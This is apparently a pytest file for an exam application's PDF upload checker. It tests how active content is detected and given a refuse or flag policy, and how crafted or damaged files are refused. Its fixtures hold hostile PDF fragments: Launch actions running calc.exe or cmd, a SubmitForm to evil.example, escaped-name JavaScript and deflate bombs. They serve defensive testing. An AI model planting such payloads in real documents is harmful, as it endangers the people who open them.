"""The checks of a deposited PDF (issue 12, items 2 and 3): active content found
in the parsed structure and the session's policy for it, crafted files refused
(never a 500) quickly and with bounded memory, files that only carry a
permissions password accepted, repairable files accepted with a warning, and
the same verdict whatever the size or chunking of the upload."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from pypdf import PdfWriter

from exam_app.accounts.models import Role
from exam_app.audit.models import AuditEvent
from exam_app.dossiers import filerules, pdfcheck
from exam_app.dossiers.common import DepositError
from exam_app.dossiers.models import Dossier, DossierFile, Upload
from exam_app.extensions import db
from tests.conftest import csrf_token_from
from tests.dossiers.helpers import make_pdf
from tests.dossiers.pdfs import build_pdf, deep_page_tree, deflate_bomb, many_pages, one_page


def _files(candidate_id: int) -> list[DossierFile]:
    return list(db.session.scalars(sa.select(DossierFile).join(Dossier).where(
        Dossier.candidate_id == candidate_id).order_by(DossierFile.id)))


def _inspect(tmp_path: Path, data: bytes, **kwargs) -> pdfcheck.PdfInfo:
    path = tmp_path / "upload.pdf"
    path.write_bytes(data)
    return pdfcheck.inspect_pdf(path, len(data), data[:pdfcheck.HEAD_TAIL],
                                data[-pdfcheck.HEAD_TAIL:], **kwargs)


def _flag_everything(session) -> None:
    session.active_content_policy = {k: pdfcheck.FLAG for k in pdfcheck.ACTIVE_KINDS}
    db.session.flush()


# ---- item 2: active content, from the parsed objects -----------------------------------

LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A %s >>"
CASES = {
    "launch_open_action": (dict(catalog=b"/OpenAction 4 0 R",
                                extra={4: b"<< /S /Launch /F (calc.exe) >>"}), {"launch"}),
    "submit_form_in_link": (dict(page=b"/Annots [4 0 R]", extra={
        4: LINK % b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"}),
        {"submit_form"}),
    "page_aa_javascript": (dict(page=b"/AA << /O 4 0 R >>",
                                extra={4: b"<< /S /JavaScript /JS 5 0 R >>", 5: b"(app.alert(1))"}),
                           {"javascript"}),
    "javascript_in_link": (dict(page=b"/Annots [4 0 R]", extra={
        4: LINK % b"<< /S /JavaScript /JS (app.alert(1)) >>"}), {"javascript"}),
    "escaped_names": (dict(page=b"/Annots [4 0 R]", extra={
        4: LINK % b"<< /S /J#61vaScript /J#53 (app.alert#281#29) >>"}), {"javascript"}),
    "javascript_in_object_stream": (dict(page=b"/Annots [4 0 R]", extra={
        4: LINK % b"5 0 R", 5: b"<< /S /JavaScript /JS (app.alert(1)) >>"},
        compressed=[1, 2, 3, 4, 5]), {"javascript"}),
    "names_javascript": (dict(catalog=b"/Names << /JavaScript 4 0 R >>", extra={
        4: b"<< /Names [(a) 5 0 R] >>", 5: b"<< /S /JavaScript /JS (x) >>"}), {"javascript"}),
    "embedded_files_tree": (dict(catalog=b"/Names << /EmbeddedFiles << /Kids [4 0 R] >> >>",
                                 extra={4: b"<< /Names [(a.exe) 5 0 R] >>",
                                        5: b"<< /Type /Filespec /F (a.exe) >>"}),
                            {"embedded_files"}),
    "file_attachment_annotation": (dict(page=b"/Annots [<< /Subtype /FileAttachment "
                                              b"/Rect [0 0 1 1] /FS 4 0 R >>]",
                                        extra={4: b"<< /Type /Filespec /F (a.exe) >>"}),
                                   {"embedded_files"}),
    "remote_goto_and_import": (dict(catalog=b"/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] "
                                            b"/Next [<< /S /ImportData /F (d.fdf) >>] >>"),
                               {"remote_goto", "import_data"}),
    "rich_media": (dict(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]"),
                   {"rich_media"}),
    "xfa_form": (dict(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                      extra={4: b"[(template) 5 0 R]", 5: b"(x)"}), {"xfa"}),
    "field_calculation": (dict(catalog=b"/AcroForm << /Fields [4 0 R] >>", extra={
        4: b"<< /FT /Tx /T (total) /Kids [5 0 R] >>",
        5: b"<< /AA << /C << /S /JavaScript /JS (event.value=1) >> >> >>"}), {"javascript"}),
    "outline_item": (dict(catalog=b"/Outlines 4 0 R", extra={
        4: b"<< /First 5 0 R /Last 5 0 R >>",
        5: b"<< /Title (Go) /Parent 4 0 R /A << /S /Launch /F (cmd) >> >>"}), {"launch"}),
    "javascript_uri": (dict(page=b"/Annots [4 0 R]", extra={
        4: LINK % b"<< /S /URI /URI ( JavaScript:alert(1)) >>"}), {"javascript"}),
    "action_chain_cycle": (dict(catalog=b"/OpenAction 4 0 R", extra={
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
        5: b"<< /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 6 0 R] >>",
        6: b"<< /S /SubmitForm /F (http://x/) /Next 4 0 R >>"}), {"submit_form"}),
    # One object in two roles is read in both: a harmless action that is also a link
    # annotation (its /A), one name-tree node shared by the JavaScript and file trees.
    "object_in_two_roles": (dict(catalog=b"/OpenAction 4 0 R", page=b"/Annots [4 0 R]", extra={
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Type /Annot /Subtype /Link /Rect [0 0 1 1] "
           b"/A << /S /Launch /F (cmd) >> >>"}), {"launch"}),
    "shared_name_tree_node": (dict(catalog=b"/Names << /JavaScript 4 0 R /EmbeddedFiles 4 0 R >>",
                                   extra={4: b"<< /Names [(a) 5 0 R] >>",
                                          5: b"<< /S /JavaScript /JS (x) /Type /Filespec >>"}),
                              {"javascript", "embedded_files"}),
    # What nothing refers to is never run: bytes that look like actions are not a finding.
    "unreferenced_action": (dict(extra={4: b"<< /S /JavaScript /JS (app.alert(1)) >>",
                                        5: b"<< /S /Launch /F (calc.exe) >>"}), set()),
    "ordinary_links": (dict(catalog=b"/OpenAction [3 0 R /Fit]", page=b"/Annots [4 0 R]",
                            extra={4: LINK % b"<< /S /URI /URI (https://example.org/) >>"}),
                       set()),
}


@pytest.mark.parametrize("case", list(CASES))
def test_active_content_is_found_in_the_parsed_structure(tmp_path, case):
    kwargs, expected = CASES[case]
    info = _inspect(tmp_path, one_page(**kwargs))
    assert (info.pages, set(info.active)) == (1, expected)


def test_default_policy_refuses_javascript_launch_submit_and_attachments(depositor):
    refused = {
        "sommaire": one_page(**CASES["escaped_names"][0]),
        "description_missions": one_page(**CASES["launch_open_action"][0]),
        "non_plagiat": one_page(**CASES["submit_form_in_link"][0]),
        "attestations_stage": make_pdf(1, marker="pj", attachment=True),
    }
    answers = {piece: depositor.upload(piece, data) for piece, data in refused.items()}
    assert {piece: (r.status_code, r.get_json()["error"], r.get_json()["details"])
            for piece, r in answers.items()} == {
        "sommaire": (422, "active_content", ["javascript"]),
        "description_missions": (422, "active_content", ["launch"]),
        "non_plagiat": (422, "active_content", ["submit_form"]),
        "attestations_stage": (422, "active_content", ["embedded_files"]),
    }
    assert answers["sommaire"].get_json()["message"] == (
        "Le fichier contient du contenu actif refusé pour cette session : JavaScript. "
        "Enregistrez-en une copie sans ces éléments (par exemple « Imprimer » → "
        "« Enregistrer en PDF ») et déposez-la.")
    assert _files(depositor.candidate.id) == []
    assert db.session.scalars(sa.select(Upload)).all() == []
    # Kinds flagged by default are accepted, and flagged for the conformity control.
    flagged = depositor.upload("sommaire", one_page(**CASES["remote_goto_and_import"][0]))
    assert flagged.status_code == 200, flagged.get_json()
    assert [f.active_content for f in _files(depositor.candidate.id)] == [
        ["import_data", "remote_goto"]]


def test_session_policy_flags_instead_of_refusing_and_the_checker_sees_why(
        app, depositor, client, login_as, create_user):
    _flag_everything(depositor.session)
    js = depositor.upload("sommaire", one_page(**CASES["javascript_in_object_stream"][0]))
    attached = depositor.upload("description_missions", make_pdf(1, marker="pj", attachment=True))
    assert [r.status_code for r in (js, attached)] == [200, 200]
    files = _files(depositor.candidate.id)
    assert [(f.active_content, f.has_javascript, f.has_embedded_files) for f in files] == [
        (["javascript"], True, False), (["embedded_files"], False, True)]
    event = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "dossier.file_deposited").order_by(AuditEvent.id)).first()
    assert event.after["flags"] == {"active_content": ["javascript"], "repairs": []}
    login_as(create_user(Role.GESTIONNAIRE))
    fragment = client.get(f"/gestion/conformite/{depositor.candidate.id}/E4?fragment=1")
    text = fragment.get_data(as_text=True)
    assert "Contenu actif : JavaScript</span>" in text
    assert "Contenu actif : fichiers joints</span>" in text
    assert "fichier.pdf : JavaScript ; fichier.pdf : fichiers joints" in text


def test_flagged_file_is_only_ever_a_sandboxed_download(depositor, client, login_as,
                                                        create_user):
    _flag_everything(depositor.session)
    depositor.upload("sommaire", one_page(**CASES["page_aa_javascript"][0]), name="actif.pdf")
    depositor.upload("non_plagiat", make_pdf(1, marker="sans"), name="sans.pdf")
    flagged, plain = _files(depositor.candidate.id)
    login_as(create_user(Role.GESTIONNAIRE))
    for url in (f"/dossiers/fichiers/{flagged.id}", f"/dossiers/fichiers/{flagged.id}?telecharger=1"):
        response = client.get(url)
        assert response.status_code == 200
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["Content-Security-Policy"] == (
            "sandbox; default-src 'none'; object-src 'none'; frame-ancestors 'none'; "
            "base-uri 'none'; form-action 'none'")
    inline = client.get(f"/dossiers/fichiers/{plain.id}")
    assert inline.headers["Content-Disposition"].startswith("inline;")
    assert inline.headers["Content-Security-Policy"].startswith("default-src 'self'")
    page = client.get(f"/dossiers/{depositor.candidate.id}/E4?fichier={flagged.id}")
    text = page.get_data(as_text=True)
    assert f'src="/dossiers/fichiers/{flagged.id}"' not in text
    assert "contient du contenu actif : JavaScript. Il ne s'ouvre pas dans l'application." in text


def test_the_same_file_gets_the_same_verdict_whatever_its_size_and_chunking(depositor):
    # Image data (here random bytes) that happens to contain "/JS(" past the first
    # 8 MiB: not an action, whether the file arrives in one request or in chunks.
    import random

    noise = bytearray(random.Random(12).randbytes(9 * 1024 * 1024))
    noise[8_500_000:8_500_004] = b"/JS("
    noise[200:212] = b"/JavaScript "
    image = (b"/Type /XObject /Subtype /Image /Width 1024 /Height 3072 /ColorSpace /DeviceRGB "
             b"/BitsPerComponent 8 /Filter /FlateDecode")
    data = one_page(page=b"/Resources << /XObject << /Im0 4 0 R >> >>",
                    stream_data={4: (image, bytes(noise))})
    whole = depositor.upload("sommaire", data, name="entier.pdf")
    chunked = depositor.upload("non_plagiat", data + b"\n", name="morceaux.pdf",
                               chunk=8 * 1024 * 1024)
    assert [r.status_code for r in (whole, chunked)] == [200, 200], chunked.get_json()
    assert [(f.original_name, f.active_content, f.has_javascript)
            for f in _files(depositor.candidate.id)] == [
        ("entier.pdf", [], False), ("morceaux.pdf", [], False)]


# ---- the session's rules: a service (audited) and a form --------------------------------

def test_file_rules_are_set_with_an_audit_and_checked(app, create_session, create_user):
    session = create_session()
    actor = create_user(Role.GESTIONNAIRE)
    assert filerules.file_rules(session) == {"max_pages": 500, "policy": {
        "javascript": "refuse", "launch": "refuse", "submit_form": "refuse",
        "embedded_files": "refuse", "import_data": "flag", "remote_goto": "flag",
        "rich_media": "flag", "xfa": "flag"}}
    filerules.set_file_rules(session=session, max_pages=40,
                             policy={"javascript": "flag", "xfa": "refuse"}, actor=actor)
    event = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "dossier.file_rules_set")).one()
    assert (event.before["policy"]["javascript"], event.after["policy"]["javascript"],
            event.after["policy"]["xfa"], event.after["max_pages"]) == (
        "refuse", "flag", "refuse", 40)
    assert (session.dossier_max_pages, session.active_content_policy["javascript"]) == (40, "flag")
    for bad in ({"max_pages": 0, "policy": {}}, {"max_pages": 10_001, "policy": {}},
                {"max_pages": 10, "policy": {"javascript": "allow"}},
                {"max_pages": 10, "policy": {"macro": "flag"}}):
        with pytest.raises(DepositError):
            filerules.set_file_rules(session=session, actor=actor, **bad)


def test_gestionnaire_sets_the_file_rules_on_the_deadlines_page(client, login_as, create_session,
                                                              create_user):
    session = create_session()
    login_as(create_user(Role.GESTIONNAIRE))
    page = client.get(f"/gestion/sessions/{session.code}/dossiers/echeances")
    text = page.get_data(as_text=True)
    assert 'name="policy-launch"' in text and 'name="max_pages"' in text
    form = {"csrf_token": csrf_token_from(text), "max_pages": "25",
            **{f"policy-{k}": "refuse" for k in pdfcheck.ACTIVE_KINDS}}
    saved = client.post(f"/gestion/sessions/{session.code}/dossiers/regles-fichiers", data=form)
    assert saved.status_code == 302
    db.session.expire_all()
    assert (session.dossier_max_pages, set(session.active_content_policy.values())) == (
        25, {"refuse"})
    bad = client.post(f"/gestion/sessions/{session.code}/dossiers/regles-fichiers",
                      data={**form, "max_pages": "0"})
    assert bad.status_code == 400
    assert "Entre 1 et 10 000 pages." in bad.get_data(as_text=True)
    wrong = client.post(f"/gestion/sessions/{session.code}/dossiers/regles-fichiers",
                        data={**form, "policy-javascript": "run"})
    assert wrong.status_code == 400
    assert "Réglage du contenu actif inconnu." in wrong.get_data(as_text=True)


# ---- item 3: crafted files refused, never a 500 ------------------------------------------

def _refusal(response) -> tuple[int, str]:
    body = response.get_json()
    return response.status_code, body["error"]


def test_crafted_pdfs_are_refused_with_a_message_not_a_500(depositor):
    bomb = one_page(compressed=[1, 2, 3], objstm_data=deflate_bomb(128 * 1024 * 1024))
    cases = {
        "deep_tree": deep_page_tree(150),
        "too_many_pages": many_pages(600),
        "over_100000_pages": many_pages(100_001),
        "object_stream_bomb": bomb,
        "user_password_aes256": _encrypted("AES-256", user="ouvrir"),
    }
    answers = {name: depositor.upload("sommaire", data, name=f"{name}.pdf")
               for name, data in cases.items()}
    assert {name: _refusal(r) for name, r in answers.items()} == {
        "deep_tree": (422, "too_complex"), "too_many_pages": (422, "too_many_pages"),
        "over_100000_pages": (422, "too_complex"),
        "object_stream_bomb": (422, "too_complex"), "user_password_aes256": (422, "encrypted"),
    }
    assert answers["deep_tree"].get_json()["message"] == pdfcheck.TOO_COMPLEX
    assert answers["too_many_pages"].get_json()["message"] == (
        "Le fichier compte 600 pages : un fichier déposé est limité à 500 pages pour cette "
        "session. Scindez-le ou réduisez-le.")
    assert answers["user_password_aes256"].get_json()["message"].startswith(
        "Le fichier PDF est protégé par un mot de passe d'ouverture")
    assert _files(depositor.candidate.id) == []


def test_the_sessions_page_cap_refuses_a_longer_file(depositor):
    depositor.session.dossier_max_pages = 3
    db.session.flush()
    longer = depositor.upload("sommaire", make_pdf(4, marker="quatre"))
    assert _refusal(longer) == (422, "too_many_pages")
    assert longer.get_json()["message"].startswith("Le fichier compte 4 pages : un fichier "
                                                   "déposé est limité à 3 pages")
    assert depositor.upload("sommaire", make_pdf(3, marker="trois")).status_code == 200


# Run in a child process (a fresh interpreter, nothing cached): timed once, then run
# again under tracemalloc for the peak memory it allocates (zlib's output included).
_CHILD = """
import json, sys, time, tracemalloc
from pathlib import Path
from exam_app.dossiers import pdfcheck
path = Path(sys.argv[1])
data = path.read_bytes()
size, head, tail = len(data), data[:pdfcheck.HEAD_TAIL], data[-pdfcheck.HEAD_TAIL:]
del data


def check():
    try:
        pdfcheck.inspect_pdf(path, size, head, tail)
    except pdfcheck.PdfRejected as refused:
        return refused.code


start = time.perf_counter()
code = check()
seconds = time.perf_counter() - start
tracemalloc.start()
check()
peak = tracemalloc.get_traced_memory()[1]
print(json.dumps({"code": code, "seconds": seconds, "peak_mb": peak / 2**20}))
"""


def _bounded(tmp_path, data: bytes) -> dict:
    """The refusal's code, the seconds and the peak memory allocated (MiB) checking ``data``."""
    import json
    import subprocess
    import sys

    path = tmp_path / "crafted.pdf"
    path.write_bytes(data)
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run([sys.executable, "-c", _CHILD, str(path)], cwd=root, timeout=120,
                          capture_output=True, text=True, check=True)
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_99996_page_pdf_is_refused_quickly_with_bounded_memory(tmp_path):
    # Its 101,587 objects are over what the check reads (pdfcheck.MAX_XREF_ENTRIES).
    result = _bounded(tmp_path, many_pages(99_996))
    assert result["code"] == "too_complex"
    assert result["seconds"] < 2 and result["peak_mb"] < 50, result
    # So is a table declaring 600,000 entries, which pypdf's repairs would re-read one
    # by one for most of a minute.
    result = _bounded(tmp_path, build_pdf({n: b"1" for n in range(1, 600_000)}))
    assert result["code"] == "too_complex"
    assert result["seconds"] < 2 and result["peak_mb"] < 50, result


def test_a_long_page_tree_is_refused_at_the_cap_whatever_its_declared_count(tmp_path):
    # 20,000 pages: the declared count says so, and is refused before the tree is read.
    result = _bounded(tmp_path, many_pages(20_000))
    assert result["code"] == "too_many_pages"
    assert result["seconds"] < 3 and result["peak_mb"] < 60, result
    # A /Count that lies: the tree is read only up to the cap, then refused.
    result = _bounded(tmp_path, many_pages(20_000, declared=1))
    assert result["code"] == "too_many_pages"
    assert result["seconds"] < 3 and result["peak_mb"] < 60, result


def test_a_pdf_inflating_to_a_gibibyte_is_refused_quickly_with_bounded_memory(tmp_path):
    result = _bounded(tmp_path, one_page(compressed=[1, 2, 3],
                                         objstm_data=deflate_bomb(1024 * 1024 * 1024)))
    assert result["code"] == "too_complex"
    assert result["seconds"] < 5 and result["peak_mb"] < 100, result


# ---- permissions-only passwords --------------------------------------------------------

def _encrypted(algorithm: str, *, user: str = "", pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": f"{algorithm}-{user}"})
    writer.encrypt(user_password=user, owner_password="proprietaire", algorithm=algorithm,
                   permissions_flag=0)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_with_only_a_permissions_password_is_accepted(depositor, algorithm):
    accepted = depositor.upload("sommaire", _encrypted(algorithm), name="signe.pdf")
    assert accepted.status_code == 200, accepted.get_json()
    assert [(f.pages, f.active_content) for f in _files(depositor.candidate.id)] == [(2, [])]
    locked = depositor.upload("non_plagiat", _encrypted(algorithm, user="ouvrir"))
    assert _refusal(locked) == (422, "encrypted")


# ---- damaged but readable files --------------------------------------------------------

def _startxref_off(data: bytes, by: int) -> bytes:
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    end = data.index(b"\n", at)
    return data[:at] + str(int(data[at:end]) + by).encode() + data[end:]


def test_damaged_but_readable_files_are_accepted_with_a_warning(depositor, client, login_as,
                                                               create_user):
    cases = {
        "sommaire": (b"\xef\xbb\xbf" + make_pdf(2, marker="bom"), ["header_offset"]),
        "description_missions": (make_pdf(2, marker="pad") + b"\0" * 3000, ["trailing_data"]),
        "non_plagiat": (_startxref_off(make_pdf(2, marker="off"), 5), ["xref_repaired"]),
    }
    for piece, (data, _) in cases.items():
        response = depositor.upload(piece, data, chunk=len(data) // 2 + 1)
        assert response.status_code == 200, (piece, response.get_json())
    assert [(f.piece_code, f.pages, f.repairs) for f in _files(depositor.candidate.id)] == [
        (piece, 2, repairs) for piece, (_, repairs) in cases.items()]
    login_as(create_user(Role.GESTIONNAIRE))
    text = client.get(f"/gestion/conformite/{depositor.candidate.id}/E4?fragment=1").get_data(
        as_text=True)
    assert "Réparé à la lecture : en-tête PDF précédé d&#39;octets parasites</span>" in text
    assert "Fichiers lus sans réparation" in text


def test_an_unreadable_file_is_refused_saying_it_could_not_be_read(depositor):
    junk = b"%PDF-1.7\n" + bytes(range(256)) * 4000 + b"\nstartxref\n12\n%%EOF\n"
    no_pages = one_page().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")
    for data in (junk, no_pages):
        response = depositor.upload("sommaire", data)
        assert response.get_json()["message"] == pdfcheck.UNREADABLE


def test_the_walk_is_bounded_in_objects_and_depth(tmp_path, monkeypatch):
    chain = {4 + n: b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (5 + n) for n in range(80)}
    chain[84] = b"<< /S /GoTo /D [3 0 R /Fit] >>"
    with pytest.raises(pdfcheck.PdfRejected) as deep:
        _inspect(tmp_path, one_page(catalog=b"/OpenAction 4 0 R", extra=chain))
    assert deep.value.code == "too_complex"
    links = {4 + n: LINK % b"<< /S /URI /URI (https://example.org/) >>" for n in range(20)}
    annots = b"/Annots [%s]" % b" ".join(b"%d 0 R" % n for n in links)
    assert _inspect(tmp_path, one_page(page=annots, extra=links)).active == frozenset()
    monkeypatch.setattr(pdfcheck, "MAX_OBJECTS", 10)
    with pytest.raises(pdfcheck.PdfRejected) as many:
        _inspect(tmp_path, one_page(page=annots, extra=links))
    assert many.value.code == "too_complex"


def test_an_encryption_pypdf_cannot_undo_is_a_refusal_not_a_500(tmp_path, monkeypatch):
    from pypdf.errors import DependencyError

    def missing(reader):
        raise DependencyError("cryptography>=3.1 is required for AES algorithm")

    monkeypatch.setattr(pdfcheck, "_open", missing)
    with pytest.raises(pdfcheck.PdfRejected) as refused:
        _inspect(tmp_path, _encrypted("AES-256"))
    assert refused.value.code == "encrypted"
